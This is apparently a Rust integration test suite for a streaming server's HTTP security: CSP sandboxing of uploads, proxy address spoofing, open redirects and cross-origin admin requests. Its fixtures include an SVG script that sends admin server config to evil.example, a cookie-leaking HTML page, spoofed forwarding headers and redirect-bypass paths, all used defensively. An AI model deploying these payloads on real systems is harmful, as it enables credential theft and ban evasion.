//! Security of castd's HTTP answers against the real daemon (issue 39, findings 7 and 8): the security headers on
//! pages, API answers and files; owner uploads (an SVG logo carrying a script, public files, emoji) served in a
//! sandbox; and the client address behind appending reverse proxies: real nginx, configured as the README says
//! (`proxy_set_header X-Forwarded-For $proxy_add_x_forwarded_for`), with clients on their own loopback addresses
//! (127.0.0.5, ...) so that the client, the proxies and castd each have an address of their own.

mod common;

use std::io::Write;
use std::net::{IpAddr, Ipv4Addr, SocketAddr, TcpListener, TcpStream};
use std::path::PathBuf;
use std::process::{Child, Command, Stdio};
use std::time::{Duration, Instant};

use base64::Engine;
use common::chatclient::{next_of, Ws};
use common::Server;
use reqwest::blocking::{Client, Response};
use serde_json::{json, Value};
use tungstenite::client::IntoClientRequest;
use tungstenite::stream::MaybeTlsStream;

fn header(r: &Response, name: &str) -> Option<String> {
    r.headers().get(name).map(|v| v.to_str().unwrap().to_string())
}

/// The headers every answer carries.
fn assert_basic(r: &Response, what: &str) {
    assert_eq!(header(r, "x-content-type-options").as_deref(), Some("nosniff"), "{what}");
    assert_eq!(header(r, "referrer-policy").as_deref(), Some("strict-origin-when-cross-origin"), "{what}");
}

/// The page policy: castd's own scripts only, nothing inline, no plugins.
fn assert_page_policy(r: &Response, what: &str) -> String {
    assert_basic(r, what);
    let csp = header(r, "content-security-policy").unwrap_or_else(|| panic!("{what}: no Content-Security-Policy"));
    let script = csp.split(';').map(str::trim).find(|d| d.starts_with("script-src")).expect("script-src");
    assert_eq!(script, "script-src 'self'", "{what}: {csp}");
    assert!(csp.contains("object-src 'none'") && csp.contains("worker-src 'self' blob:"), "{what}: {csp}");
    assert!(!csp.contains("unsafe-eval"), "{what}: {csp}");
    csp
}

fn assert_sandboxed(r: &Response, what: &str) {
    assert_basic(r, what);
    let csp = header(r, "content-security-policy").unwrap_or_else(|| panic!("{what}: no Content-Security-Policy"));
    let directives: Vec<&str> = csp.split(';').map(str::trim).collect();
    assert!(directives.contains(&"sandbox"), "{what}: {csp}");
    assert!(directives.contains(&"default-src 'none'"), "{what}: {csp}");
    assert!(!csp.contains("script-src"), "{what}: {csp}");
}

#[test]
fn pages_api_answers_and_files_carry_the_security_headers() {
    let s = Server::start();

    // The viewer page and the embeds: the page policy; any site may frame them (their purpose; Owncast's may be).
    for path in ["/", "/embed/video", "/embed/chat/readonly", "/embed/chat/readwrite"] {
        let r = s.get(path);
        assert_eq!(r.status(), 200, "{path}");
        let csp = assert_page_policy(&r, path);
        assert!(!csp.contains("frame-ancestors"), "{path}: {csp}");
        assert!(header(&r, "x-frame-options").is_none(), "{path}");
    }
    // The admin pages: never in a frame.
    for path in ["/admin/", "/admin/federation"] {
        let r = s.admin_get(path);
        assert_eq!(r.status(), 200, "{path}");
        let csp = assert_page_policy(&r, path);
        assert!(csp.ends_with("frame-ancestors 'none'"), "{path}: {csp}");
        assert_eq!(header(&r, "x-frame-options").as_deref(), Some("DENY"), "{path}");
    }
    // A page castd answers from the cache (304) keeps its policy.
    let r = s.get("/");
    let etag = header(&r, "etag").unwrap();
    let r = s.client.get(s.url("/")).header("If-None-Match", etag).send().unwrap();
    assert_eq!(r.status(), 304);
    assert_page_policy(&r, "304 of /");

    // Owncast's API answers are unchanged but for the headers: the same JSON, CORS, no page policy.
    let r = s.get("/api/status");
    assert_basic(&r, "/api/status");
    assert_eq!(header(&r, "access-control-allow-origin").as_deref(), Some("*"));
    assert!(header(&r, "content-security-policy").is_none());
    let status: Value = r.json().unwrap();
    assert_eq!(status["online"], json!(false));
    let r = s.get("/api/admin/status");
    assert_eq!(r.status(), 401);
    assert_basic(&r, "401");
    let r = s.get("/api/nope");
    assert_eq!(r.status(), 404);
    assert_basic(&r, "404");
    let r = s.client.request(reqwest::Method::OPTIONS, s.url("/api/status")).send().unwrap();
    assert_eq!(r.status(), 204);
    assert_basic(&r, "preflight");
    // The HLS fast lane (ahead of the router) too.
    let r = s.get("/hls/stream.m3u8");
    assert_basic(&r, "/hls (fast lane)");
    // The built UI's files.
    let r = s.get("/img/platformlogos/mastodon.svg");
    assert_eq!(r.status(), 200);
    assert_sandboxed(&r, "castd's own SVG");

    // Owner files: the default logo and the public folder, whatever their type.
    assert_sandboxed(&s.get("/logo"), "/logo");
    let public = s.data_dir.join("public");
    std::fs::write(public.join("page.html"), "<!doctype html><script>parent.postMessage(document.cookie,'*')</script>")
        .unwrap();
    std::fs::write(
        public.join("pic.svg"),
        r#"<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>"#,
    )
    .unwrap();
    std::fs::write(public.join("notes.txt"), "hello").unwrap();
    for (file, ctype) in [("page.html", "text/html"), ("pic.svg", "image/svg+xml"), ("notes.txt", "text/plain")] {
        let r = s.get(&format!("/public/{file}"));
        assert_eq!(r.status(), 200, "{file}");
        assert!(header(&r, "content-type").unwrap().starts_with(ctype), "{file}");
        assert_sandboxed(&r, file);
    }
    // An emoji.
    let mut png = b"\x89PNG\r\n\x1a\n".to_vec();
    png.extend_from_slice(&[0u8; 64]);
    let data = base64::engine::general_purpose::STANDARD.encode(&png);
    let r = s.admin_post("/api/admin/emoji/upload", &json!({ "name": "wave", "data": data }));
    assert!(r.status().is_success(), "emoji upload: {}", r.status());
    let emoji = s.get_json("/api/emoji");
    let url = emoji.as_array().unwrap()[0]["url"].as_str().unwrap().to_string();
    assert_sandboxed(&s.get(&url), &url);
}

#[test]
fn an_uploaded_svg_logo_runs_no_script_in_castds_origin() {
    let s = Server::start();
    let svg = r#"<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10" onload="fetch('/api/admin/status')">
<script>fetch('/api/admin/serverconfig').then(r => r.text()).then(t => fetch('https://evil.example/?' + t))</script>
<rect width="10" height="10" fill="red"/></svg>"#;
    let data = base64::engine::general_purpose::STANDARD.encode(svg);
    s.set("logo", json!(format!("data:image/svg+xml;base64,{data}")));
    // Served as the SVG it is, but in a sandbox: opened in a tab, its script cannot run, and it has no access to
    // castd's origin (the admin's cached credentials) even where a browser ignored the sandbox's script rule.
    for path in ["/logo", "/logo/external", "/favicon.ico"] {
        let r = s.get(path);
        assert_eq!(r.status(), 200, "{path}");
        assert_eq!(header(&r, "content-type").as_deref(), Some("image/svg+xml"), "{path}");
        assert_sandboxed(&r, path);
        assert!(r.text().unwrap().contains("<script>"), "{path}: the owner's file as uploaded");
    }
}

// ---- The client address behind proxies -------------------------------------------------------------------

/// A real nginx reverse proxy on 127.0.0.1 in front of `upstream`, configured as the README says (appending
/// `X-Forwarded-For`, websocket upgrade). `bind`: the address it connects to the upstream from.
struct Nginx {
    child: Child,
    port: u16,
    dir: tempfile::TempDir,
}

const NGINX: &str = "/usr/sbin/nginx";

impl Nginx {
    fn start(upstream: u16, bind: Option<Ipv4Addr>) -> Nginx {
        let nginx = std::env::var("NGINX").unwrap_or_else(|_| NGINX.to_string());
        assert!(
            std::path::Path::new(&nginx).exists(),
            "nginx not found at {nginx} (packaging/deps.sh installs it; or set NGINX)"
        );
        let dir = tempfile::tempdir().unwrap();
        let port = free_port();
        let d = dir.path().display();
        let user = if is_root() { "user root root;" } else { "" };
        let bind = bind.map(|ip| format!("proxy_bind {ip};")).unwrap_or_default();
        let conf = format!(
            r#"{user}
daemon off;
worker_processes 1;
pid {d}/nginx.pid;
error_log {d}/error.log warn;
events {{ worker_connections 256; }}
http {{
  access_log off;
  client_body_temp_path {d}/body; proxy_temp_path {d}/proxy; fastcgi_temp_path {d}/fastcgi;
  uwsgi_temp_path {d}/uwsgi; scgi_temp_path {d}/scgi;
  map $http_upgrade $connection_upgrade {{ default upgrade; '' close; }}
  server {{
    listen 127.0.0.1:{port};
    location / {{
      proxy_pass http://127.0.0.1:{upstream};
      proxy_http_version 1.1;
      proxy_set_header Host $host;
      proxy_set_header X-Forwarded-For $proxy_add_x_forwarded_for;
      proxy_set_header X-Forwarded-Proto $scheme;
      proxy_set_header Upgrade $http_upgrade;
      proxy_set_header Connection $connection_upgrade;
      {bind}
    }}
  }}
}}
"#
        );
        let conf_path: PathBuf = dir.path().join("nginx.conf");
        std::fs::File::create(&conf_path).unwrap().write_all(conf.as_bytes()).unwrap();
        let child = Command::new(&nginx)
            .arg("-p")
            .arg(dir.path())
            .arg("-c")
            .arg(&conf_path)
            .arg("-e")
            .arg(dir.path().join("error.log"))
            .stdin(Stdio::null())
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .spawn()
            .expect("start nginx");
        let deadline = Instant::now() + Duration::from_secs(10);
        while TcpStream::connect(("127.0.0.1", port)).is_err() {
            assert!(
                Instant::now() < deadline,
                "nginx did not listen: {}",
                std::fs::read_to_string(dir.path().join("error.log")).unwrap_or_default()
            );
            std::thread::sleep(Duration::from_millis(50));
        }
        Nginx { child, port, dir }
    }

    fn url(&self, path: &str) -> String {
        format!("http://127.0.0.1:{}{path}", self.port)
    }
}

impl Drop for Nginx {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
        let _ = &self.dir;
    }
}

fn free_port() -> u16 {
    TcpListener::bind("127.0.0.1:0").unwrap().local_addr().unwrap().port()
}

fn is_root() -> bool {
    Command::new("id").arg("-u").output().map(|o| String::from_utf8_lossy(&o.stdout).trim() == "0").unwrap_or(false)
}

/// An HTTP client whose connections come from `ip` (a loopback address of its own).
fn client_from(ip: Ipv4Addr) -> Client {
    Client::builder()
        .local_address(IpAddr::V4(ip))
        .pool_max_idle_per_host(0)
        .timeout(Duration::from_secs(10))
        .build()
        .unwrap()
}

/// What a client sends to choose its own address: its own `X-Forwarded-For` (which an appending proxy keeps, left
/// of what it adds), and the other headers some servers read.
fn spoofing(rb: reqwest::blocking::RequestBuilder) -> reqwest::blocking::RequestBuilder {
    rb.header("X-Forwarded-For", "6.6.6.6")
        .header("X-Real-IP", "6.6.6.6")
        .header("Forwarded", "for=6.6.6.6")
        .header("User-Agent", "spoofer/1.0")
}

/// A chat websocket through `port`, from `ip`, sending `X-Forwarded-For: 6.6.6.6`.
fn chat_socket_from(ip: Ipv4Addr, port: u16, token: &str) -> Ws {
    let rt = tokio::runtime::Builder::new_current_thread().enable_all().build().unwrap();
    let stream = rt.block_on(async {
        let sock = tokio::net::TcpSocket::new_v4().unwrap();
        sock.bind(SocketAddr::new(IpAddr::V4(ip), 0)).unwrap();
        sock.connect(SocketAddr::from(([127, 0, 0, 1], port))).await.unwrap().into_std().unwrap()
    });
    stream.set_nonblocking(false).unwrap();
    stream.set_read_timeout(Some(Duration::from_millis(200))).unwrap();
    let mut req = format!("ws://127.0.0.1:{port}/ws?accessToken={token}").into_client_request().unwrap();
    req.headers_mut().insert("X-Forwarded-For", "6.6.6.6".parse().unwrap());
    let (ws, _) = tungstenite::client(req, MaybeTlsStream::Plain(stream)).expect("websocket through nginx");
    ws
}

/// Register a chat user through `base`; the status and the body.
fn register(client: &Client, base: &str) -> (u16, Value) {
    let r = spoofing(client.post(format!("{base}/api/chat/register"))).json(&json!({})).send().unwrap();
    let status = r.status().as_u16();
    (status, r.json().unwrap_or(Value::Null))
}

/// The addresses castd has for its current viewers (`/api/ping` counts one).
fn viewer_addresses(s: &Server) -> Vec<String> {
    s.admin_json("/api/admin/viewers")
        .as_array()
        .unwrap()
        .iter()
        .map(|v| v["ipAddress"].as_str().unwrap_or_default().to_string())
        .collect()
}

const CLIENT: Ipv4Addr = Ipv4Addr::new(127, 0, 0, 5);
const OTHER_CLIENT: Ipv4Addr = Ipv4Addr::new(127, 0, 0, 7);

#[test]
fn a_client_behind_an_appending_proxy_cannot_choose_its_address() {
    // The default: one proxy on this machine (nginx on loopback), as the README configures it.
    let s = Server::start();
    let proxy = Nginx::start(s.web_port, None);
    let client = client_from(CLIENT);
    let base = proxy.url("");

    // A viewer: recorded with its own address, not the one it sent.
    let r = spoofing(client.get(proxy.url("/api/ping"))).send().unwrap();
    assert_eq!(r.status(), 200);
    assert_eq!(viewer_addresses(&s), vec![CLIENT.to_string()], "the viewer list has the client's real address");

    // A chat client: the admin's client list shows its real address.
    let (status, user) = register(&client, &base);
    assert_eq!(status, 200, "{user}");
    let token = user["accessToken"].as_str().unwrap();
    let mut ws = chat_socket_from(CLIENT, proxy.port, token);
    assert!(next_of(&mut ws, "CONNECTED_USER_INFO", Duration::from_secs(5)).is_some());
    let clients = s.admin_json("/api/admin/chat/clients");
    let addresses: Vec<&str> = clients.as_array().unwrap().iter().map(|c| c["ipAddress"].as_str().unwrap()).collect();
    assert_eq!(addresses, vec![CLIENT.to_string()], "{clients}");

    // Banned by its real address, it cannot come back by naming another one.
    let r = s.admin_post("/api/admin/chat/users/ipbans/create", &json!({ "value": CLIENT.to_string() }));
    assert!(r.status().is_success());
    let (status, body) = register(&client, &base);
    assert_eq!(status, 403, "a banned client registers again by sending X-Forwarded-For: {body}");
    let r = spoofing(client.get(format!("{base}/api/chat?accessToken={token}"))).send().unwrap();
    assert_eq!(r.status(), 401, "a banned client's token");
    // Another client through the same proxy is not affected (the ban is not on the proxy).
    let (status, body) = register(&client_from(OTHER_CLIENT), &base);
    assert_eq!(status, 200, "{body}");
    // And nobody can get an address of their choosing banned in their place: the spoofed one is not banned.
    let bans = s.admin_json("/api/admin/chat/users/ipbans");
    assert_eq!(bans.as_array().unwrap().len(), 1, "{bans}");
}

#[test]
fn trusted_proxies_names_how_many_proxies_append() {
    // Two proxies: the client (127.0.0.5) -> outer nginx -> (from 127.0.0.6) inner nginx -> castd, which gets
    // `X-Forwarded-For: 6.6.6.6, 127.0.0.5, 127.0.0.6`. With --trusted-proxies 2 the client is 127.0.0.5.
    let s = Server::start_with_args(&["--trusted-proxies", "2"]);
    let inner = Nginx::start(s.web_port, None);
    let outer = Nginx::start(inner.port, Some(Ipv4Addr::new(127, 0, 0, 6)));
    let client = client_from(CLIENT);
    let r = spoofing(client.get(outer.url("/api/ping"))).send().unwrap();
    assert_eq!(r.status(), 200);
    assert_eq!(viewer_addresses(&s), vec![CLIENT.to_string()]);
    let r = s.admin_post("/api/admin/chat/users/ipbans/create", &json!({ "value": CLIENT.to_string() }));
    assert!(r.status().is_success());
    let (status, body) = register(&client, &outer.url(""));
    assert_eq!(status, 403, "{body}");
    let (status, body) = register(&client_from(OTHER_CLIENT), &outer.url(""));
    assert_eq!(status, 200, "{body}");

    // --trusted-proxies 0: X-Forwarded-For is never read, not even from loopback.
    let direct = Server::start_with_args(&["--trusted-proxies", "0"]);
    let r = spoofing(client.get(direct.url("/api/ping"))).send().unwrap();
    assert_eq!(r.status(), 200);
    assert_eq!(viewer_addresses(&direct), vec![CLIENT.to_string()]);
}

/// One raw HTTP/1.1 GET (the target exactly as written, which a URL library would normalise): status and headers.
fn raw_get(port: u16, target: &str) -> (u16, Vec<(String, String)>) {
    use std::io::Read;
    let mut s = TcpStream::connect(("127.0.0.1", port)).expect("connect");
    s.set_read_timeout(Some(Duration::from_secs(20))).unwrap();
    write!(s, "GET {target} HTTP/1.1\r\nHost: 127.0.0.1:{port}\r\nAccept: text/html\r\nConnection: close\r\n\r\n")
        .unwrap();
    let mut buf = Vec::new();
    let _ = s.read_to_end(&mut buf);
    let text = String::from_utf8_lossy(&buf).to_string();
    let head = text.split("\r\n\r\n").next().unwrap_or_default();
    let mut lines = head.lines();
    let status = lines.next().and_then(|l| l.split(' ').nth(1)).and_then(|c| c.parse().ok()).unwrap_or(0);
    let headers = lines
        .filter_map(|l| l.split_once(':'))
        .map(|(k, v)| (k.trim().to_ascii_lowercase(), v.trim().to_string()))
        .collect();
    (status, headers)
}

/// Finding 8 of issue 52: an invite link opened at a path that a browser reads as another site (`//host`, `/\host`,
/// encoded forms) redirects to castd's own root, never off the origin, and still sets the pass.
#[test]
fn an_invite_redirect_never_leaves_the_origin() {
    let s = Server::start();
    s.set("visibility", json!("password"));
    let mut tried = 0;
    for path in [
        "//evil.example/x",
        "/\\evil.example/x",
        "/%2f%2fevil.example/x",
        "/%5cevil.example/x",
        "///evil.example/x",
        "/\\/evil.example/x",
        "/./\\evil.example",
        "/%09/evil.example",
    ] {
        let made: Value = s
            .admin_post("/api/admin/viewer/invites/create", &json!({"expiresInSeconds": 3600, "maxUses": 1}))
            .json()
            .unwrap();
        let invite = made["invite"].as_str().expect("an invite");
        let (status, headers) = raw_get(s.web_port, &format!("{path}?invite={invite}&x=1"));
        let location = headers.iter().find(|(k, _)| k == "location").map(|(_, v)| v.clone());
        if status == 303 {
            let location = location.unwrap_or_else(|| panic!("{path}: a 303 without Location"));
            let base = url::Url::parse(&s.url("/")).unwrap();
            let target = base.join(&location).unwrap_or_else(|e| panic!("{path}: Location {location}: {e}"));
            assert_eq!(target.host_str(), Some("127.0.0.1"), "{path} → Location {location}");
            assert_eq!(target.port(), Some(s.web_port), "{path} → Location {location}");
            assert!(
                location.starts_with('/') && !location.starts_with("//") && !location.contains('\\'),
                "{path} → {location}"
            );
            assert!(headers.iter().any(|(k, v)| k == "set-cookie" && v.contains('=')), "{path}: the pass is still set");
            tried += 1;
        } else {
            assert!(
                location.is_none_or(|l| l.starts_with('/') && !l.starts_with("//")),
                "{path}: {status} {headers:?}"
            );
        }
    }
    assert!(tried >= 2, "at least the plain forms redirect ({tried})");
    // The ordinary case keeps its path and query.
    let made: Value =
        s.admin_post("/api/admin/viewer/invites/create", &json!({"expiresInSeconds": 3600})).json().unwrap();
    let (status, headers) = raw_get(s.web_port, &format!("/?invite={}&x=1", made["invite"].as_str().unwrap()));
    assert_eq!(status, 303);
    assert!(headers.iter().any(|(k, v)| k == "location" && v == "/?x=1"), "{headers:?}");
}

/// Finding 3 of issue 52: the GET form of a state change (disconnect, directory reset, update) answers 405 to a
/// request with any of a browser's marks, even with the admin's credentials, and the stream stays up; a tool's plain
/// GET and the POST form work, and a cross-origin POST is refused.
#[test]
fn a_browsers_get_changes_nothing_and_the_stream_stays_up() {
    const KEY: &str = "security-http-key-1";
    let s = Server::start_with_args(&["--streamkey", KEY]);
    let mut ff = common::media::publish(&s, KEY, "320x180", 120);
    s.wait_for(Duration::from_secs(60), || common::media::online(&s).then_some(()))
        .unwrap_or_else(|| panic!("the stream went live; log:\n{}", s.log_text()));
    let origin = s.url("");
    let origin = origin.trim_end_matches('/');
    let marks: [(&str, String); 6] = [
        ("sec-fetch-dest", "image".into()),
        ("sec-fetch-mode", "no-cors".into()),
        ("sec-fetch-site", "same-origin".into()),
        ("origin", origin.to_string()),
        ("referer", format!("{origin}/admin/chat")),
        ("cookie", "castd_pass=x".into()),
    ];
    for route in ["/api/admin/disconnect", "/api/admin/yp/reset", "/api/admin/update/start"] {
        for (name, value) in &marks {
            let r = s
                .client
                .get(s.url(route))
                .basic_auth("admin", Some(&s.admin_password))
                .header(*name, value)
                .send()
                .unwrap();
            assert_eq!(r.status(), 405, "GET {route} with {name}");
            assert_eq!(header(&r, "allow").as_deref(), Some("POST"), "GET {route} with {name}");
            let body: Value = r.json().expect("json");
            assert_eq!(body["success"], false, "{body}");
        }
    }
    assert!(common::media::online(&s), "no browser GET dropped the stream");
    // A cross-origin POST is refused too.
    let r = s
        .client
        .post(s.url("/api/admin/disconnect"))
        .basic_auth("admin", Some(&s.admin_password))
        .header("origin", "http://evil.example")
        .send()
        .unwrap();
    assert_eq!(r.status(), 403);
    assert!(common::media::online(&s), "a cross-origin POST dropped the stream");
    // A tool's plain GET of the directory reset works (Owncast's tools use GET).
    assert!(s.admin_get("/api/admin/yp/reset").status().is_success());
    // The POST form drops the publisher.
    let r = s.admin_post("/api/admin/disconnect", &json!({}));
    assert!(r.status().is_success(), "{:?}", r.text());
    s.wait_for(Duration::from_secs(30), || (!common::media::online(&s)).then_some(()))
        .expect("offline after the POST disconnect");
    let _ = common::media::wait_exit(&mut ff, Duration::from_secs(30));
}

/// A CORS preflight carries no credentials: on a private channel the WHEP and CMCD preflights are answered
/// (CORS headers, no content), while the POST they precede still needs a pass.
#[test]
fn a_private_channels_preflights_are_answered_and_its_ways_out_still_need_a_pass() {
    let s = Server::start();
    s.set("visibility", json!("password"));
    for path in ["/whep", "/metrics/cmcd"] {
        let r = s
            .client
            .request(reqwest::Method::OPTIONS, s.url(path))
            .header("origin", "https://player.example")
            .header("access-control-request-method", "POST")
            .send()
            .unwrap();
        assert!(r.status().is_success(), "OPTIONS {path}: {}", r.status());
        assert!(header(&r, "access-control-allow-origin").is_some(), "OPTIONS {path}: {:?}", r.headers());
    }
    let r = s.client.post(s.url("/whep")).header("content-type", "application/sdp").body("v=0\r\n").send().unwrap();
    assert_eq!(r.status(), 401, "POST /whep without a pass");
}
